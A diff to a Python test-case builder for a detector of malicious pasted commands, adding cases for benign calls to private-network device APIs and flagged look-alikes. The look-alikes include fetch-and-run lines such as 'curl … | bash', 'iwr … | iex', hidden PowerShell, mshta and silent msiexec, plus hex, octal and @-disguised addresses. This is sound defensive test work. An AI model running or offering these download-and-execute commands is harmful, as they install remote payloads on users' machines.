@@ -32,6 +32,16 @@ Cleared here, by technique (each beside the look-alikes that must stay flagged o
   before the block, a command outside it, a terminal or the Run box keep their weight; where the
   target is unknown what the sample does without an address (decoding into a shell, a hidden
   start from %TEMP%) still counts.
+- `private-network-api`: a call to a device of the user's own network by its private address
+  (RFC 1918: a router's, a NAS's, a smart plug's, Elasticsearch's or a cluster service's API at
+  10/8, 172.16/12 or 192.168/16, over plain HTTP as such devices serve it) was read as a
+  download from a stranger's bare-IP server over plain HTTP (PG-IP-ADDRESS-HOST,
+  PG-PLAIN-HTTP-EXEC). The internet does not route those addresses, so no stranger's server
+  answers there (signals.on_private_network): the two signals leave them out, as they leave out
+  localhost. What the text does with what it fetches still counts (a pipe into a shell, mshta, a
+  hidden PowerShell, the Run box from a page), and so do a private address written in disguise
+  (one number, hex, octal), a name that starts with its digits or hides it before an @, 172.32/
+  172.15, and the public and documentation ranges.
 """
 
 from __future__ import annotations
@@ -2658,6 +2668,103 @@ def samples(book: Book) -> None:
         book.add("defanged-sample-block", text, "flagged", "any", target, CHECK_PAGE)
 
 
+# -- cleared: an API of a device on the user's own network by its private address ----------------
+
+LAN_PAGES = [
+    "https://community.home-assistant.io/t/rest-api-examples/123",
+    "https://openwrt.org/docs/guide-user/base-system/ubus",
+    "https://www.elastic.co/guide/en/elasticsearch/reference/current/cat-indices.html",
+    "https://superuser.com/questions/1402211/query-router-status-from-command-line",
+    None,
+]
+
+LAN_CALLS = [
+    ("linux", "curl http://192.168.1.50/relay/0?turn=on"),
+    ("linux", "curl -s 'http://10.0.0.15:9200/_cat/indices?v'"),
+    ("linux", "curl http://192.168.1.20:11434/api/tags"),
+    ("linux", "curl -s http://192.168.1.1/cgi-bin/luci/rpc/sys"),
+    ("linux", "wget http://192.168.1.10:8080/backups/latest.tar.gz"),
+    (
+        "linux",
+        'curl -k "https://192.168.1.5:5001/webapi/query.cgi?api=SYNO.API.Info&version=1&method=query"',
+    ),
+    (
+        "linux",
+        "kubectl run tmp --rm -it --image=curlimages/curl -- curl http://10.96.0.10:9153/metrics",
+    ),
+    (
+        "linux",
+        "curl -X PUT -H 'Content-Type: application/json' -d '{\"on\": true}' http://192.168.0.42/api/newdeveloper/lights/1/state",
+    ),
+    ("linux", "http GET http://172.16.5.20:8500/v1/catalog/services"),
+    ("linux", "curl -u admin:$ROUTER_PASS http://192.168.88.1/rest/interface"),
+    ("linux", "wget -qO- http://10.20.30.40:9100/metrics | grep node_load1"),
+    ("linux", "curl -sS http://172.17.0.2:8080/actuator/health | jq .status"),
+    ("windows", "Invoke-WebRequest -Uri http://192.168.0.1/ -UseBasicParsing"),
+    ("windows", "Invoke-RestMethod http://10.10.0.4:5985/wsman"),
+    (
+        "windows",
+        "iwr http://192.168.1.30/status.json -UseBasicParsing | Select-Object -ExpandProperty Content",
+    ),
+    ("windows", "irm http://172.20.1.8:8080/api/v1/jobs | Format-Table"),
+    ("windows", "curl.exe http://192.168.178.1/login_sid.lua"),
+    (
+        "windows",
+        "Invoke-WebRequest -Uri http://10.0.0.12/backup/config.xml -OutFile C:\\Temp\\switch-config.xml",
+    ),
+]
+
+# a private address written in disguise, a name that starts with such digits or hides one
+# before an @, the public and documentation ranges, and what a private address hands a shell
+# or the Run box: the clearing takes the address's "stranger" weight only, never what is run
+LAN_LOOKALIKES = [
+    ("linux", "curl http://198.51.100.50/relay/0?turn=on", TERMINAL, "flagged"),
+    ("linux", "curl http://0xC0A80132/relay/0?turn=on", TERMINAL, "flagged"),
+    ("linux", "wget http://3232235786:8080/backups/latest.tar.gz", TERMINAL, "flagged"),
+    ("windows", "Invoke-WebRequest -Uri http://203.0.113.1/ -UseBasicParsing", TERMINAL, "flagged"),
+    ("windows", "irm http://0300.0250.0.1/status.json", TERMINAL, "flagged"),
+    ("windows", "mshta http://3232235777/verify.hta", RUN, "malicious"),
+    ("linux", "curl -s http://0xC0A80101/s.sh | bash", TERMINAL, "flagged"),
+    ("linux", "curl -s http://0300.0250.1.1/s.sh | bash", TERMINAL, "flagged"),
+    ("linux", "curl -s http://192.168.1.1.umbra-stage.test/s.sh | bash", TERMINAL, "flagged"),
+    ("linux", "curl -s http://192.168.1.1@cdn.umbra-stage.test/s.sh | bash", TERMINAL, "flagged"),
+    ("linux", "curl -s http://172.32.0.1/s.sh | bash", TERMINAL, "flagged"),
+    ("linux", "curl -s http://198.51.100.23/s.sh | bash", TERMINAL, "flagged"),
+    ("windows", "iwr http://203.0.113.9/a.ps1 -UseBasicParsing | iex", TERMINAL, "flagged"),
+    ("windows", "mshta http://10.0.0.5/verify.hta", RUN, "malicious"),
+    (
+        "windows",
+        'powershell -w h -c "iex (iwr http://192.168.1.20/p.ps1 -UseBasicParsing)"',
+        RUN,
+        "malicious",
+    ),
+    (
+        "windows",
+        'powershell -w h -c "iex (iwr http://192.168.1.20/p.ps1 -UseBasicParsing)"',
+        TERMINAL,
+        "flagged",
+    ),
+    ("linux", "curl -fsSL http://192.168.1.10/bootstrap.sh | sudo bash", TERMINAL, "flagged"),
+    ("windows", "msiexec /q /i http://10.1.1.9/agent.msi", RUN, "malicious"),
+    (
+        "windows",
+        "curl.exe -s http://192.168.1.7/k.bat -o %TEMP%\\k.bat && %TEMP%\\k.bat",
+        RUN,
+        "malicious",
+    ),
+]
+
+
+def lan_calls(book: Book) -> None:
+    for i, (platform, text) in enumerate(LAN_CALLS):
+        page = LAN_PAGES[i % len(LAN_PAGES)]
+        book.add("private-network-api", text, "not_flagged", platform, TERMINAL, page)
+        book.add("private-network-api", text, "not_flagged", platform, UNKNOWN, None)
+    for platform, text, target, expect in LAN_LOOKALIKES:
+        book.add("private-network-api", text, expect, platform, target, CHECK_PAGE)
+        book.add("private-network-api", text, "flagged", platform, target, None)
+
+
 def _texts(path: Path) -> set[str]:
     if not path.is_file():
         return set()
@@ -2678,6 +2785,7 @@ def build() -> list[dict[str, str]]:
     second_round(book)
     tables(book)
     samples(book)
+    lan_calls(book)
     seen = _texts(EARLIER) | set().union(*(_texts(p) for p in sorted(DEV.glob("*.jsonl"))))
     return [c for c in book.cases if c["id"] not in LEFT and c["text"] not in seen]
 
